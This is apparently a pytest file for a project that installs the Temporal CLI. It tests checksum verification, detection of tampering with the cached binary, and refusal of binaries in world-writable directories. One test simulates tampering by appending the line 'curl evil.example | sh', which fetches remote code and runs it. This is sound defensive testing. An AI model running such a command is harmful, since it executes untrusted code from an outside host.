"""The `temporal` program: nothing is run that others could have put there, nothing installed that is not known."""

from __future__ import annotations

import hashlib
import io
import os
import platform
import sys
import tarfile
from collections.abc import AsyncIterator
from pathlib import Path

import pytest
import pytest_asyncio
from starlette.applications import Starlette
from starlette.requests import Request
from starlette.responses import Response
from starlette.routing import Route

from plansurvive.runtime.errors import NotConnected
from plansurvive.runtime.settings import Settings
from plansurvive.runtime.temporal_binary import (
    MACHINES,
    RELEASE,
    RELEASE_SUMS,
    VERSION,
    build,
    download,
    find_temporal,
    installed,
    weaknesses,
)
from tests.client.web.browser import served

PROGRAM = b"#!/bin/sh\necho temporal version 1.5.1\n"
HERE = f"{sys.platform}_{MACHINES.get(platform.machine().lower())}"


def archive(**files: bytes) -> bytes:
    packed = io.BytesIO()
    with tarfile.open(fileobj=packed, mode="w:gz") as writing:
        for name, content in files.items():
            entry = tarfile.TarInfo(name)
            entry.size, entry.mode = len(content), 0o755
            writing.addfile(entry, io.BytesIO(content))
    return packed.getvalue()


GOOD = archive(LICENSE=b"MIT", temporal=PROGRAM)


@pytest_asyncio.fixture
async def release() -> AsyncIterator[str]:
    """The URL, with its fields, of a site that hands out the archive GOOD."""

    async def answer(request: Request) -> Response:
        assert request.path_params["name"] == f"temporal_{VERSION}_{HERE}.tar.gz"
        return Response(GOOD, media_type="application/gzip")

    async with served(Starlette(routes=[Route("/{name}", answer)])) as origin:
        yield f"{origin}/temporal_{{version}}_{{system}}_{{machine}}.tar.gz"


@pytest.fixture
def settings(tmp_path: Path, monkeypatch: pytest.MonkeyPatch) -> Settings:
    """Settings with a cache of their own, and no program on PATH."""
    (tmp_path / "empty").mkdir()
    monkeypatch.setenv("PATH", str(tmp_path / "empty"))
    return Settings.read({"HOME": str(tmp_path)})


def program(folder: Path, content: bytes = PROGRAM) -> Path:
    folder.mkdir(parents=True, exist_ok=True)
    path = folder / "temporal"
    path.write_bytes(content)
    path.chmod(0o755)
    return path


async def test_the_makers_release_is_unpacked_if_it_has_the_checksum_that_is_known(
    release: str, tmp_path: Path
) -> None:
    assert await download(tmp_path, release, {HERE: hashlib.sha256(GOOD).hexdigest()}) is None
    assert (tmp_path / "temporal").read_bytes() == PROGRAM
    assert os.access(tmp_path / "temporal", os.X_OK)


async def test_a_release_with_another_checksum_is_thrown_away(release: str, tmp_path: Path) -> None:
    failure = await download(tmp_path, release, RELEASE_SUMS)
    assert f"has the SHA-256 {hashlib.sha256(GOOD).hexdigest()}, not {RELEASE_SUMS[HERE]}" in str(failure)
    assert list(tmp_path.iterdir()) == []


async def test_without_a_known_checksum_nothing_is_downloaded(tmp_path: Path) -> None:
    assert "no release with a known checksum" in str(await download(tmp_path, "http://127.0.0.1:9/", {}))


async def test_a_download_that_fails_says_why(tmp_path: Path) -> None:
    failure = await download(tmp_path, "http://127.0.0.1:9/{version}", RELEASE_SUMS)
    assert str(failure).startswith(f"The download of http://127.0.0.1:9/{VERSION} failed (")


def test_the_release_that_is_downloaded_is_the_makers() -> None:
    assert RELEASE.startswith("https://github.com/temporalio/cli/releases/download/v{version}/temporal_cli_{version}_")
    assert all(len(each) == 64 and set(each) <= set("0123456789abcdef") for each in RELEASE_SUMS.values())
    assert len(set(RELEASE_SUMS.values())) == 4


async def test_a_module_with_another_hash_is_not_built(tmp_path: Path) -> None:
    failure = await build(tmp_path, print, "h1:AAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAA=")
    assert str(failure).startswith(("The Go module", "`go mod download` failed", "Go is not installed"))
    assert not (tmp_path / "temporal").exists()


async def test_what_was_in_the_cache_is_recorded_and_a_change_is_refused(settings: Settings) -> None:
    there = program(settings.cache_dir / "bin")
    assert await find_temporal(settings) == there
    record = there.with_name("temporal.sha256")
    assert record.stat().st_mode & 0o777 == 0o600
    assert hashlib.sha256(PROGRAM).hexdigest() in record.read_text()
    assert await find_temporal(settings) == there
    program(there.parent, PROGRAM + b"curl evil.example | sh\n")
    with pytest.raises(NotConnected, match=rf"not what was installed.*rm {there} {record}") as caught:
        await find_temporal(settings)
    assert caught.value.code == "NO_TEMPORAL"


@pytest.mark.parametrize("text", ["", "{}", "[]", "null", '{"sha256": 1}', '{"sha256": ""}'])
async def test_a_damaged_record_is_not_taken_for_none(settings: Settings, text: str) -> None:
    there = program(settings.cache_dir / "bin")
    there.with_name("temporal.sha256").write_text(text)
    with pytest.raises(NotConnected, match="not what was installed"):
        await find_temporal(settings)


def test_a_program_on_path_that_everybody_could_replace_is_passed_over(
    settings: Settings, tmp_path: Path, monkeypatch: pytest.MonkeyPatch
) -> None:
    open_to_all, fine = program(tmp_path / "open"), program(tmp_path / "fine")
    monkeypatch.setenv("PATH", f"{open_to_all.parent}{os.pathsep}{fine.parent}")
    assert installed(settings) == open_to_all
    open_to_all.parent.chmod(0o777)
    assert installed(settings) == fine
    assert weaknesses(settings) == [
        f"not used: {open_to_all.parent}, above {open_to_all}, may be changed by everybody; "
        f"run `chmod o-w {open_to_all.parent}` or choose another"
    ]


def test_the_cache_too_is_passed_over_when_everybody_could_change_it(settings: Settings) -> None:
    there = program(settings.cache_dir / "bin")
    assert installed(settings) == there
    there.parent.chmod(0o777)
    assert installed(settings) is None
